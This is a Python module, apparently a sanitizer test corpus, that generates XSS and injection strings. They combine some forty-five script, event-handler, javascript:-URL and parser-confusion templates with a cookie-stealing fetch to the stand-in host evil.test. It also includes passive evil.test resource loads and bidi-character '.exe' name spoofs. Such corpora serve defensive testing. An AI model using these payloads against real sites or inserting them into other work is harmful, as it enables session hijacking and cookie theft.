"""Two hundred texts that try to be more than text."""

from collections.abc import Iterator
from itertools import product

_ACTS = ("window.hurt=1", "fetch('http://evil.test/'+document.cookie)")
_TEMPLATES = (
    "<script>{act}</script>",
    "</script><script>{act}</script>",
    "<img src=x onerror=\"{act}\">",
    "<svg onload=\"{act}\"></svg>",
    "<svg><script>{act}</script></svg>",
    "<iframe srcdoc=\"<script>parent.{act}</script>\"></iframe>",
    "<iframe src=\"javascript:parent.{act}\"></iframe>",
    "<a href=\"javascript:{act}\" autofocus onfocus=\"{act}\">press</a>",
    "<input autofocus onfocus=\"{act}\">",
    "<details open ontoggle=\"{act}\"><summary>x</summary></details>",
    "<video><source onerror=\"{act}\"></video>",
    "<body onload=\"{act}\">",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=\"{act}\"></style></mglyph></math>",
    "<form action=\"javascript:{act}\"><button autofocus>send</button></form>",
    "<object data=\"javascript:{act}\"></object>",
    "<embed src=\"data:text/html,<script>{act}</script>\">",
    "<marquee onstart=\"{act}\">x</marquee>",
    "<template><script>{act}</script></template>",
    "javascript:{act}",
    "JaVaScRiPt:{act}//http://ok.test/",
    " \tjavascript:{act}",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#{act}",
    "vbscript:{act}",
    "');{act};('",
    "\"><script>{act}</script>",
    "${{{act}}}",
    "{{{{{act}}}}}",
    "`;{act};`",
    "]]><script>{act}</script>",
    "--><script>{act}</script><!--",
    "<!--<script>{act}</script>",
    "\\u003cscript\\u003e{act}\\u003c/script\\u003e",
    "&lt;script&gt;{act}&lt;/script&gt;",
    "<scr\u0000ipt>{act}</scr\u0000ipt>",
    "<ScRiPt >{act}</sCrIpT >",
    "<x style=\"animation-name:a\" onanimationstart=\"{act}\"><style>@keyframes a{{}}</style>",
    "<div popover id=p onbeforetoggle=\"{act}\">x</div><button popovertarget=p>x</button>",
    "<noscript><p title=\"</noscript><img src=x onerror={act}>\">",
    "<textarea><img title=\"</textarea><img src=x onerror={act}>\"></textarea>",
    "<option></select><img src=x onerror=\"{act}\">",
    "__proto__ {act}",
    "constructor {act}",
    "%3Cscript%3E{act}%3C/script%3E",
    "<meta http-equiv=refresh content=\"0;url=javascript:{act}\">",
    "<set attributeName=onmouseover to=\"{act}\">",
)  # fmt: skip
_PASSIVE = (
    "<link rel=stylesheet href=http://evil.test/a.css>",
    "<style>@import 'http://evil.test/b.css'; * { background: url(http://evil.test/c) }</style>",
    "<img src=http://evil.test/d.png srcset='http://evil.test/e.png 2x'>",
    "<base href=http://evil.test/>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/f'>",
    "<link rel=prefetch href=http://evil.test/g><link rel=dns-prefetch href=//evil.test>",
    "<video src=http://evil.test/h poster=http://evil.test/i autoplay></video>",
    "<iframe src=http://evil.test/j></iframe><object data=http://evil.test/k></object>",
    "url(http://evil.test/l)",
    "//evil.test/m",
    "http://evil.test/n?<script>",
    "![x](http://evil.test/o.png)",
    "<svg><image href=http://evil.test/p /><use href=http://evil.test/q#r></use></svg>",
    "<audio src=http://evil.test/s autoplay></audio><track src=http://evil.test/t>",
    "<script src=http://evil.test/u></script><script type=module src=//evil.test/v></script>",
    "<form action=http://evil.test/w><input type=image src=http://evil.test/x></form>",
)
_MARKS = ("\u202e", "\u2066\u202d", "\u200f", "\u061c", "\u0007\u001b[2J", "\u0085\u009b", "\u2028")


def payloads() -> Iterator[str]:
    """The texts, each once."""
    yield from (template.format(act=act) for template, act in product(_TEMPLATES, _ACTS))
    yield from _PASSIVE
    for mark, act in product(_MARKS, _ACTS):
        yield f"{mark}<img src=x onerror={act}>{mark}gpj.exe"
    for number, template in enumerate(_TEMPLATES):
        inner = template.format(act=_ACTS[number % 2])
        yield f"before {inner * 3} after"
        yield f"\u202e{inner}\u2069"[:200]
